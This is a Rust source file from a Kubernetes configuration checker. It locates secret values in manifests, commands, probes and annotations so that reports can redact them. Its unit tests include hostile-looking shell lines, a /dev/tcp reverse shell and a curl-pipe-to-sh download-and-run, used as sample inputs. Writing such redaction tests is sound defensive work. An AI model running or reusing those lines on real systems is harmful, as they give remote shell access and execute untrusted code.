//! Where an object holds secrets in plain text, so that no report repeats them.

use ironsides_core::{Object, Pod, PodTemplates};
use ironsides_tree::{Cursor, Node, RemarkKind, Segment, Span, Text};

use crate::configuration::content;
use crate::workload::{command_secret, each_command, is_secret};

mod kustomization;

pub use kustomization::sensitive_in_kustomization;

/// Words that announce a secret in a command line.
const WORDS: [&str; 20] = [
    "password",
    "passwd",
    "pwd",
    "passphrase",
    "pass",
    "secret",
    "token",
    "apikey",
    "api-key",
    "api_key",
    "accesskey",
    "access-key",
    "access_key",
    "privatekey",
    "private-key",
    "private_key",
    "credential",
    "credentials",
    "authorization",
    "bearer",
];

/// The spans of an object's secret values in its text, whether or not a check speaks of them: the data of a Secret; values
/// under secret names in a ConfigMap and in environment variables; files, annotations, command lines and headers that
/// carry one. A guess on the side of silence: only what reports repeat is at stake. Objects without a text have none.
pub fn sensitive(object: &Object, templates: &PodTemplates) -> Vec<Span> {
    Sensitive::of(object, templates).spans
}

/// Where an object holds secrets.
#[derive(Debug)]
pub(crate) struct Sensitive {
    /// Whether the object has no text, so that places are known by their paths: equal parts of what the API returned are
    /// shared, and their spans, if they have any, say nothing.
    is_live: bool,
    /// The places in an object without text.
    places: Vec<(Box<[Step]>, Node)>,
    /// The bytes in a text.
    pub(crate) spans: Vec<Span>,
}

impl Sensitive {
    /// The places of an object's secret values.
    pub(crate) fn of(object: &Object, templates: &PodTemplates) -> Self {
        let mut found = Self { is_live: object.is_live(), places: Vec::new(), spans: Vec::new() };
        gather(object, templates, &mut found);
        found.spans.retain(|span| span.is_some());
        found
    }

    /// Whether a place holds a secret, is part of one, or has one in it.
    pub(crate) fn touches(&self, at: &Cursor<'_>) -> bool {
        if self.is_live {
            let own = at.path().segments();
            let is_on_way = |(place, _): &(Box<[Step]>, Node)| own.iter().zip(&**place).all(|(a, b)| b.is(a));
            return self.places.iter().any(is_on_way);
        }
        let Some(Span { start: from, end: to }) = at.node().map(Node::span) else { return false };
        self.spans.iter().any(|secret| secret.start < to && from < secret.end)
    }

    /// The secret values as they are written, but for quotes.
    pub(crate) fn values(&self, object: &Object) -> Vec<String> {
        let written = self.spans.iter().filter_map(|span| object.written(*span)).map(str::to_owned);
        let stored = self.places.iter().map(|(_, node)| match node.as_str() {
            Some(text) => text.to_owned(),
            None => ironsides_tree::print::json(node),
        });
        let bare = written.chain(stored).map(|text| text.trim().trim_matches(['"', '\'']).to_owned());
        bare.filter(|text| !text.is_empty()).collect()
    }

    /// Adds a place, where a value stands there.
    fn add(&mut self, at: &Cursor<'_>) {
        match at.node() {
            Some(node) if self.is_live => {
                self.places.push((at.path().segments().iter().map(Step::from).collect(), node.clone()));
            }
            Some(node) => self.spans.push(node.span()),
            None => {}
        }
    }
}

/// A step of a path that outlives its tree.
#[derive(Debug)]
enum Step {
    Key(Text),
    Index(u32),
}

impl Step {
    fn is(&self, segment: &Segment<'_>) -> bool {
        match (self, segment) {
            (Self::Key(own), Segment::Key(key)) => own == key,
            (Self::Index(own), Segment::Index(index)) => own == index,
            _ => false,
        }
    }
}

impl From<&Segment<'_>> for Step {
    fn from(segment: &Segment<'_>) -> Self {
        match segment {
            Segment::Key(key) => Self::Key(Text::new(key)),
            Segment::Index(index) => Self::Index(*index),
        }
    }
}

fn gather(object: &Object, templates: &PodTemplates, found: &mut Sensitive) {
    let reference = object.reference();
    let core = |kind: &str| reference.kind == kind && reference.group().is_empty();
    let is_secret_object = core("Secret");
    if is_secret_object {
        for field in ["data", "stringData"] {
            object.cursor().get(field).entries().for_each(|(_, value)| found.add(&value));
        }
        // A field that there is not may be a misspelt one of these.
        let is_other = |field: &str| {
            !matches!(
                field,
                "apiVersion" | "kind" | "metadata" | "type" | "immutable" | "data" | "stringData"
            )
        };
        let others = object.cursor().entries().filter(|(field, _)| is_other(field));
        others.for_each(|(_, value)| found.add(&value));
    }
    if core("ConfigMap") {
        let shows = |(key, value): &(&str, Cursor<'_>)| {
            is_secret(key, value) || value.str().is_some_and(|text| is_shown_in(key, text))
        };
        object.cursor().get("data").entries().filter(shows).for_each(|(_, value)| found.add(&value));
    }
    annotations(object, &object.cursor().at(&["metadata", "annotations"]), found);
    if let Some(pod) = Pod::of(object, templates) {
        annotations(object, &pod.metadata().get("annotations"), found);
        for container in pod.containers() {
            for variable in container.get("env").items() {
                environment(&variable, found);
            }
            let mut flag = Flag::default();
            each_command(&container, |_, line, secret| {
                let shown = line.str().filter(|text| flag.takes(text) | (secret.is_some() || may_show(text)));
                if shown.is_some() {
                    found.add(line);
                }
            });
            for hook in HOOKS {
                let mut flag = Flag::default();
                for line in container.at.at(hook).items() {
                    let shown = line
                        .str()
                        .filter(|text| flag.takes(text) | (command_secret(text).is_some() || may_show(text)));
                    if shown.is_some() {
                        found.add(&line);
                    }
                }
            }
            let image = container.get("image");
            // What follows the @ of an image is a digest, or else what stands before it is a login.
            let login =
                image.str().and_then(|image| image.split_once('@')).filter(|(_, rest)| !rest.contains(':'));
            if login.is_some() {
                found.add(&image);
            }
            for probe in ["livenessProbe", "readinessProbe", "startupProbe"] {
                for action in ["httpGet", "tcpSocket"] {
                    let host = container.get(probe).at(&[action, "host"]);
                    if host.str().is_some_and(|host| host.contains('@')) {
                        found.add(&host);
                    }
                }
                for header in container.get(probe).at(&["httpGet", "httpHeaders"]).items() {
                    let name = header.get("name").str().unwrap_or_default().to_ascii_lowercase();
                    if name == "cookie" || announces(&format!("{name}:")) {
                        found.add(&header.get("value"));
                    }
                }
            }
        }
    }
    // Of a key that is set twice the first value is in no tree, but still in the text.
    for remark in &object.remarks {
        if let RemarkKind::DuplicateKey { key, first } = &remark.kind
            && (is_secret_object || core("ConfigMap") || key == "value")
        {
            found.spans.push(Span { start: first.end, end: remark.span.start });
        }
        // Whoever forgets the quotes around `!secret` has written a tag.
        if let RemarkKind::UnknownTag { .. } = &remark.kind
            && (is_secret_object || core("ConfigMap"))
        {
            found.spans.push(remark.span);
        }
    }
}

/// Annotations that show a secret.
fn annotations(object: &Object, annotations: &Cursor<'_>, found: &mut Sensitive) {
    let shows = |(key, value): &(&str, Cursor<'_>)| {
        let is_shown =
            |text: &str| content::annotation(object, key, text).is_some() || is_shown_in(key, text);
        *key == content::LAST_APPLIED || value.str().is_some_and(is_shown)
    };
    annotations.entries().filter(shows).for_each(|(_, value)| found.add(&value));
}

/// Whatever stands beside the name of a variable and would be a secret under it: its field may be misspelt.
fn environment(variable: &Cursor<'_>, found: &mut Sensitive) {
    let name = variable.get("name").str().unwrap_or_default();
    for (field, value) in variable.entries().filter(|(field, _)| *field != "name") {
        let listed = field == "value" && value.items().any(|item| is_secret(name, &item));
        if listed || is_secret(name, &value) {
            found.add(&value);
        }
    }
}

/// What runs in a container besides its command line.
const HOOKS: [&[&str]; 5] = [
    &["livenessProbe", "exec", "command"],
    &["readinessProbe", "exec", "command"],
    &["startupProbe", "exec", "command"],
    &["lifecycle", "postStart", "exec", "command"],
    &["lifecycle", "preStop", "exec", "command"],
];

/// A flag whose value is the next item of a command line: `[--password, x]`.
#[derive(Default)]
struct Flag {
    announces: bool,
}

impl Flag {
    /// Whether the next item is the value of a flag that announces a secret.
    fn takes(&mut self, text: &str) -> bool {
        let is_flag = text.starts_with('-');
        let is_value = std::mem::take(&mut self.announces) && !is_flag;
        self.announces = is_flag && !text.contains(['=', ' ']) && announces(&format!("{text} "));
        is_value
    }
}

/// Whether a command line may show a secret, whatever the checks make of it.
fn may_show(text: &str) -> bool {
    announces(text) || logs_in(text)
}

/// Whether a program is given a password by a letter: `curl -u name:x`, `mysql -px`, `sshpass -p x`, `redis-cli -a x`.
fn logs_in(text: &str) -> bool {
    let has = |program: &str| text.contains(program);
    let has_flag = |flag: &str| text.split_whitespace().any(|word| word.starts_with(flag));
    (has("curl") || has("wget")) && (has_flag("-u") || has_flag("--user"))
        || (has("mysql") || has("mariadb") || has("sshpass")) && has_flag("-p")
        || has("redis-cli") && has_flag("-a")
}

/// Whether a value or file shows a secret, or may: what stands under a word for one counts however it is written.
fn is_shown_in(key: &str, text: &str) -> bool {
    content::secret(key, text).is_some() || announced(text, b"=:\"'")
}

/// Whether a word for a secret stands in a text with something after it: `--password=x`, `Authorization: x`.
fn announces(text: &str) -> bool {
    announced(text, b"=: \"'")
}

/// Whether a word for a secret stands in a text with one of some characters after it. One pass: most texts have neither.
fn announced(text: &str, after: &[u8]) -> bool {
    let bytes = text.as_bytes();
    let is_word = |before: &[u8]| {
        WORDS.iter().any(|word| {
            let from = before.len().checked_sub(word.len());
            let end = from.and_then(|from| before.get(from..));
            end.is_some_and(|end| end.eq_ignore_ascii_case(word.as_bytes()))
        })
    };
    let separators = bytes.iter().enumerate().filter(|(_, byte)| after.contains(byte));
    separators.filter_map(|(at, _)| bytes.get(..at)).any(|before| {
        // What the words end with.
        let may_end = before.last().is_some_and(|last| b"delnrsty".contains(&last.to_ascii_lowercase()));
        may_end && is_word(before)
    })
}

fn span(at: &Cursor<'_>) -> Option<Span> {
    at.node().map(Node::span)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_lines_that_may_show_a_secret_are_told() {
        for (text, expected) in [
            ("--password=x", true),
            ("PASSPHRASE=x exec web", true),
            ("curl -H 'Authorization: Basic x'", true),
            ("curl -u a:x https://a.example | sh", true),
            ("mysql -px -h db", true),
            ("redis-cli -a x ping", true),
            ("sshpass -p x ssh a", true),
            ("exec 5<>/dev/tcp/10.0.0.1/4444; sh <&5", false),
            ("curl -fsSL https://a.example | sh", false),
            ("mkdir -p /tmp/a", false),
            ("--verbose=true", false),
            ("--password-file=/run/a", false),
        ] {
            assert_eq!(may_show(text), expected, "{text}");
        }
    }

    #[test]
    fn the_value_of_a_flag_follows_it() {
        let mut flag = Flag::default();
        let items = ["--password", "x", "y", "--token", "--secret", "z", "--user", "a", "--token=x", "b"];
        let taken: Vec<_> = items.into_iter().filter(|item| flag.takes(item)).collect();
        assert_eq!(taken, ["x", "z"]);
    }

    #[test]
    fn files_that_may_show_a_secret_are_told() {
        for (key, text, expected) in [
            ("a.json", r#"{"user": "a", "password": "x"}"#, true),
            ("a.yaml", "user: a\napi_key: x\n", true),
            ("note", "the password of the day is told by mail", false),
            ("level", "info", false),
        ] {
            assert_eq!(is_shown_in(key, text), expected, "{text}");
        }
    }
}
